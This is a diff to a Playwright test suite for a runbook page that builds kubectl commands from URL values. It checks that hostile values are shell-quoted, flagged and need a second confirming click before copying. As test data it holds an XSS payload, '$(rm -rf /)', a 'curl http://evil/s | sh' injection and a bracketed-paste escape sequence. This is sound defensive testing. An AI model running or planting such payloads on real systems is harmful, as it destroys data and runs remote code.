@@ -113,7 +113,8 @@ describe('variables', () => {
   it('shows a markup payload from the query string as text, never as markup', async () => {
     const payload = '<img src=x onerror="window.__pwned=1">';
     const { page, context } = await open(`/runbooks/k8s-002/?pod=${encodeURIComponent(payload)}`);
-    expect(await page.locator('.ph[data-var="pod"]').first().textContent()).toBe(payload);
+    // Shown as the characters it is, and quoted: a value that is not a plain word is data.
+    expect(await page.locator('.ph[data-var="pod"]').first().textContent()).toBe(`'${payload}'`);
     expect(await page.locator('.cmd-block img').count()).toBe(0);
     expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
     expect(await page.inputValue('[data-var-input="pod"]')).toBe(payload);
@@ -137,6 +138,65 @@ describe('variables', () => {
     expect(await clipboard(page)).toBe('unchanged');
     await target.locator('.cmd__copy').click();
     expect(await clipboard(page)).toBe('kubectl logs <pod-name> -n klinematrix-prod --previous');
+    await context.close();
+  });
+});
+
+describe('hostile values from a link', () => {
+  /** K8S-002's `kubectl describe pod <pod-name> -n <namespace> | grep "Image:"`. */
+  const describePod = (page: Page) => page.locator('.cmd').filter({ has: page.locator('.ph[data-var="namespace"]') }).filter({ hasText: 'kubectl describe pod' }).first();
+
+  it('quotes a command substitution from the URL, marks it, and copies it only on a confirming second click that says why', async () => {
+    const { page, context } = await open(`/runbooks/k8s-002/?namespace=${encodeURIComponent('$(rm -rf /)')}&pod=x`);
+    await setClipboard(page, 'unchanged');
+    const target = describePod(page);
+    await expect.poll(() => target.locator('.ph.is-unusual').count()).toBeGreaterThan(0);
+    await target.locator('.cmd__copy').click();
+    expect(await target.locator('.cmd__status').textContent()).toContain('Unusual value: namespace');
+    expect(await clipboard(page)).toBe('unchanged');
+    await target.locator('.cmd__copy').click();
+    expect(await clipboard(page)).toBe(`kubectl describe pod x -n '$(rm -rf /)' | grep "Image:"`);
+    expect(await page.locator('[data-var-input="namespace"] ~ .variables__note').textContent()).toContain('shell would read as code');
+    await context.close();
+  });
+
+  it('never lets a second command in: ; | and # stay inside the quoted value', async () => {
+    const { page, context } = await open(`/runbooks/k8s-002/?pod=${encodeURIComponent('x; curl http://evil/s | sh #')}&namespace=prod`);
+    const target = describePod(page);
+    await target.locator('.cmd__copy').click();
+    await target.locator('.cmd__copy').click();
+    expect(await clipboard(page)).toBe(`kubectl describe pod 'x; curl http://evil/s | sh #' -n prod | grep "Image:"`);
+    await context.close();
+  });
+
+  it('removes control and invisible characters (ESC [201~ ends bracketed paste), says so, and keeps them out of the URL', async () => {
+    const { page, context } = await open(`/runbooks/k8s-002/?pod=${encodeURIComponent('web\u001b[201~\u0007\t\u200b\u202e1')}&namespace=prod`);
+    const target = describePod(page);
+    await target.locator('.cmd__copy').click();
+    await target.locator('.cmd__copy').click();
+    const copied = await clipboard(page);
+    expect(copied).not.toMatch(/[\u0000-\u001f\u007f\u200b\u202e]/);
+    expect(copied).toBe(`kubectl describe pod 'web[201~1' -n prod | grep "Image:"`);
+    expect(await page.locator('[data-var-input="pod"] ~ .variables__note').textContent()).toContain('ESC (U+001B)');
+    await page.fill('[data-var-input="namespace"]', 'prod2');
+    expect(await page.evaluate(() => new URLSearchParams(location.search).get('pod'))).toBe('web[201~1');
+    await context.close();
+  });
+
+  it('copies a plain value that is a valid name on the first click, unquoted', async () => {
+    const { page, context } = await open('/runbooks/k8s-002/?pod=api-7c9&namespace=prod');
+    const target = describePod(page);
+    await target.locator('.cmd__copy').click();
+    expect(await clipboard(page)).toBe('kubectl describe pod api-7c9 -n prod | grep "Image:"');
+    await context.close();
+  });
+
+  it('treats what is typed into the panel the same way', async () => {
+    const { page, context } = await open('/runbooks/k8s-002/');
+    await page.fill('[data-var-input="namespace"]', 'Prod Space');
+    const target = describePod(page);
+    expect(await target.locator('.ph[data-var="namespace"]').textContent()).toBe("'Prod Space'");
+    expect(await page.locator('[data-var-input="namespace"]').evaluate((i) => i.classList.contains('is-unusual'))).toBe(true);
     await context.close();
   });
 });
